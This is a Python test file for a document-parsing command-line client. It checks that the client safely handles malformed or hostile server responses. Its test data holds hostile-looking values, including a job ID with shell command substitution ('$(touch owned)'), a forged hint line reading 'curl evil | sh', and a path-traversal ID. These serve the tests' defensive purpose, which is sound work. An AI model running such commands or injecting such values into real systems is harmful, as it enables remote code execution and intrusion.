"""Malformed and hostile responses: nothing paid for is lost, and nothing in them takes effect."""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.fake_service import POLL, SUBMIT, UPLOAD, Call, Reply, Service
from tests.real.machine import Machine
from tests.stage import Stage

PARSE = ("parse", "--file-id", "f")
TORN = "x\ud800"
"""A lone surrogate: JSON can encode it, UTF-8 files and terminals can't."""


@pytest.mark.parametrize("member", ["job_id", "status"])
def test_submit_response_with_lone_surrogate_is_accepted(stage: Stage, service: Service, member: str) -> None:
    accepted = {"job_id": "job_1", "status": "queued", member: TORN}
    service.has(str(accepted["job_id"]), "completed")
    service.then(SUBMIT, Reply.of(202, accepted))
    ran = stage.run(*PARSE)
    assert ran.code == 0, ran.err
    assert stage.states() == ["running"]
    assert stage.run("jobs", "list").code == stage.run("jobs", "list", terminal=True).code == 0


def test_job_error_with_lone_surrogate_is_reported(stage: Stage, service: Service) -> None:
    service.has("job_1", TORN, "failed", error={"code": TORN, "message": TORN})
    service.then(SUBMIT, Reply.of(202, {"job_id": "job_1", "status": "queued"}))
    assert stage.run(*PARSE, "--wait").code == 5
    service.then(SUBMIT, Reply.of(500, {"detail": TORN}))
    assert stage.run(*PARSE, "--fresh").code == 9


def test_file_id_with_lone_surrogate_is_used(stage: Stage, service: Service) -> None:
    service.then(UPLOAD, Reply.of(200, {"files": [{"file_id": TORN}]}))
    assert stage.run("parse", stage.document("a.pdf"), "--wait").code == 0


@pytest.mark.parametrize(("job_id", "segment"), [("a/../b", "a%2F..%2Fb"), ("?a#b", "%3Fa%23b")])
def test_job_id_with_path_characters_is_one_path_segment(stage: Stage, job_id: str, segment: str) -> None:
    asked: list[bytes] = []

    def handler(request: httpx.Request) -> httpx.Response:
        asked.append(request.url.raw_path)
        return httpx.Response(200, json={"job_id": job_id, "status": "completed", "pages": []})

    replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run("jobs", "result", job_id)
    assert asked == [f"/v1/jobs/{segment}".encode(), f"/v1/jobs/{segment}/result".encode()]


def test_empty_job_id_leaves_the_outcome_unknown(stage: Stage, service: Service) -> None:
    service.then(SUBMIT, Reply.of(202, {"job_id": "", "status": "queued"}))
    ran = stage.run(*PARSE)
    assert (ran.code, stage.states()) == (9, ["unknown"])


def test_job_id_with_shell_syntax_is_named_by_its_row_in_hints(stage: Stage, service: Service) -> None:
    job_id = "$(touch owned); `id` 'x'"
    service.polls = 10**6
    service.has(job_id, *["queued"] * 100)
    service.then(SUBMIT, Reply.of(202, {"job_id": job_id, "status": "queued"}))
    ran = stage.run(*PARSE, "--wait", "--timeout", "1")
    assert ran.code == 8
    (hint,) = [line for line in ran.err.splitlines() if line.startswith("hint: ")]
    assert hint == "hint: docspeed jobs wait @1"


def test_status_nested_too_deeply_ends_the_wait(stage: Stage, service: Service) -> None:
    service.always(POLL, Reply(200, b'{"status": "queued", "x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"))
    ran = stage.run(*PARSE, "--wait")
    assert (ran.code, service.count(POLL)) == (9, 1)
    assert "nested too deeply" in ran.err


class Endless(httpx.SyncByteStream):
    """A response body of up to 1 GiB that counts the bytes read from it."""

    def __init__(self) -> None:
        self.taken = 0

    def __iter__(self) -> Iterator[bytes]:
        yield b"{"
        while self.taken < 1 << 30:
            self.taken += 1 << 20
            yield b" " * (1 << 20)


@pytest.mark.parametrize("ending", ["/jobs/job_1", "/upload"])
def test_status_or_upload_response_without_end_is_cut_off(
    stage: Stage, service: Service, ending: str
) -> None:
    endless = Endless()

    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith(ending):
            return httpx.Response(200, stream=endless)
        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
        return httpx.Response(reply.status, content=reply.body)

    path = stage.document("a.pdf")
    ran = replace(stage, transport=lambda base_url: httpx.MockTransport(handler)).run("parse", path, "--wait")
    assert ran.code == 9
    assert "far too long" in ran.err
    assert endless.taken < 64 << 20


def test_submit_response_of_large_job_is_a_job(stage: Stage, service: Service) -> None:
    repeated = {"schema": {"fields": [{"key": f"field_{number}"} for number in range(10_000)]}}
    service.then(SUBMIT, Reply.of(202, {"job_id": "job_7", "status": "queued", "request": repeated}))
    ran = stage.run(*PARSE)
    assert (ran.code, json.loads(ran.out)["job_id"], stage.states()) == (0, "job_7", ["running"])


def test_server_message_cannot_imitate_our_labels(stage: Stage, service: Service) -> None:
    message = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
    service.always(SUBMIT, Reply.of(422, {"detail": message}))
    for terminal in (False, True):
        ran = stage.run(*PARSE, terminal=terminal, env={"NO_COLOR": "1", "TERM": "dumb"})
        ours = [line for line in ran.err.splitlines() if line.startswith(("hint:", "error:", "note:"))]
        assert (ran.code, len(ours)) == (7, 1), ran.err


@pytest.mark.parametrize("job_id", ["-", "--help", "@last", "@1"])
def test_job_id_that_looks_like_an_option_is_named_by_its_row(
    stage: Stage, service: Service, job_id: str
) -> None:
    service.has(job_id, *["queued"] * 100)
    service.then(SUBMIT, Reply.of(202, {"job_id": job_id, "status": "queued"}))
    ran = stage.run(*PARSE, "--wait", "--timeout", "1")
    assert ran.err.splitlines()[-1] == "hint: docspeed jobs wait @1"


def test_request_id_too_long_is_truncated(stage: Stage, service: Service) -> None:
    service.then(SUBMIT, Reply.of(422, {"detail": "no"}, X_Request_Id="r" * 60_000))
    assert len(stage.run(*PARSE).err) < 1000


# -- compressed responses

CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()


class Raw(httpx.SyncByteStream):
    """A body that httpx leaves packed until it is read."""

    def __init__(self, content: bytes) -> None:
        self._content = content

    def __iter__(self) -> Iterator[bytes]:
        yield self._content


def _answering(
    stage: Stage, service: Service, ending: str, body: bytes | None, coding: str = "gzip"
) -> Stage:
    """Return a stage whose server labels this body, or its own, where the path ends with `ending`."""

    def handler(request: httpx.Request) -> httpx.Response:
        reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
        if not request.url.path.endswith(ending):
            return httpx.Response(reply.status, content=reply.body)
        assert request.headers["accept-encoding"] == "gzip"
        stream = Raw(reply.body if body is None else body)
        return httpx.Response(200, headers={"Content-Encoding": coding}, stream=stream)

    return replace(stage, transport=lambda base_url: httpx.MockTransport(handler))


def test_response_in_gzip_is_decompressed(stage: Stage, service: Service) -> None:
    ran = _answering(stage, service, "/result", gzip.compress(CONTENT)).run(*PARSE, "--wait")
    assert (ran.code, ran.raw) == (0, CONTENT + b"\n")


@pytest.mark.parametrize(
    "body",
    [gzip.compress(CONTENT)[:-20], b"not JSON at all", zlib.compress(CONTENT)],
    ids=["cut", "text", "zlib"],
)
def test_response_in_damaged_gzip_is_unavailable(stage: Stage, service: Service, body: bytes) -> None:
    ran = _answering(stage, service, "/result", body).run(*PARSE, "--wait")
    assert (ran.code, ran.out) == (9, "")


CODINGS = [
    "",
    "identity",
    "none",
    "utf-8",
    "binary",
    "UTF-8, identity",
    "aws-chunked",
    "gzip",
    "br",
    "zstd, x",
]


@pytest.mark.parametrize("coding", CODINGS)
@pytest.mark.parametrize("ending", ["/parse", "/jobs/job_1", "/result"])
def test_response_with_a_label_that_is_not_true_is_read(
    stage: Stage, service: Service, ending: str, coding: str
) -> None:
    ran = _answering(stage, service, ending, None, coding).run(*PARSE, "--wait")
    assert (ran.code, ran.raw) == (0, service.results["job_1"] + b"\n"), ran.err
    assert service.count(SUBMIT) == 1


@pytest.mark.parametrize("coding", CODINGS)
def test_response_in_gzip_is_read_whatever_its_label(stage: Stage, service: Service, coding: str) -> None:
    ran = _answering(stage, service, "/result", gzip.compress(CONTENT), coding).run(*PARSE, "--wait")
    assert (ran.code, ran.raw) == (0, CONTENT + b"\n")


@pytest.mark.parametrize("coding", ["br", "zstd", "deflate", "compress", "aws-chunked"])
def test_response_in_a_coding_that_was_not_asked_for_is_named(
    stage: Stage, service: Service, coding: str
) -> None:
    ran = _answering(stage, service, "/parse", b"\x8b\x00packed", coding).run(*PARSE)
    assert (ran.code, stage.states()) == (9, ["unknown"])
    assert f"Content-Encoding: {coding}, which was not asked for" in ran.err


# -- before anything is sent


@pytest.mark.parametrize("proxy", ["socks4://127.0.0.1:1", "bogus://x"])
def test_unusable_proxy_is_reported_before_anything_is_submitted(tmp_path: Path, proxy: str) -> None:
    """Only a program with a network of its own uses a proxy."""
    machine = Machine(tmp_path, "https://api.docspeed.example")
    ran = machine.run("parse", "--file-id", "f", env={"HTTPS_PROXY": proxy})
    assert ran.code == 9, ran.err
    assert "error: HTTPS_PROXY names a proxy of the kind" in ran.err and "NO_PROXY" in ran.err
    assert not Machine(tmp_path, "sandbox").run("jobs", "list").out


class Drops(httpx.SyncByteStream):
    """A long response body that counts the chunks read from it."""

    def __init__(self) -> None:
        self.taken = 0

    def __iter__(self) -> Iterator[bytes]:
        for _ in range(1000):
            self.taken += 1
            yield b" " * 65536


def test_error_body_is_read_up_to_a_limit(stage: Stage) -> None:
    drops = Drops()
    transport = httpx.MockTransport(lambda request: httpx.Response(422, stream=drops))
    ran = replace(stage, transport=lambda base_url: transport).run("parse", "--file-id", "f")
    assert (ran.code, drops.taken < 5) == (7, True)
